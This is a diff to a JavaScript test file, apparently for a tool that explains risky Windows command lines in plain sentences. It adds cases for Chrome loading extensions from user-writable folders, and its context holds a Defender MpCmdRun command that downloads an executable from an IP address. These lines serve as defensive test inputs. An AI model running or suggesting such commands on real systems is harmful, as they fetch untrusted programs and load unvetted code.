@@ -125,6 +125,11 @@ describe("a sentence", () => {
       /given: C:\\Windows\\Temp\\pkg\. It loads what is in this folder, which lies loose in a temporary folder\./,
     ],
     [
+      "chrome --load-extension=C:\\Users\\Public\\kiwi",
+      /It runs what is in this folder, in which programs are not normally kept, and to which users can write\./,
+    ],
+    ["chrome --load-extension=D:\\kiwi", /It runs what is in this folder, to which users can write\./],
+    [
       "MpCmdRun -DownloadFile -url http://198.51.100.7/a.exe -path C:\\Users\\Public\\k.exe",
       /a file: the program http:\/\/198\.51\.100\.7\/a\.exe\. It takes this program from the web\./,
     ],
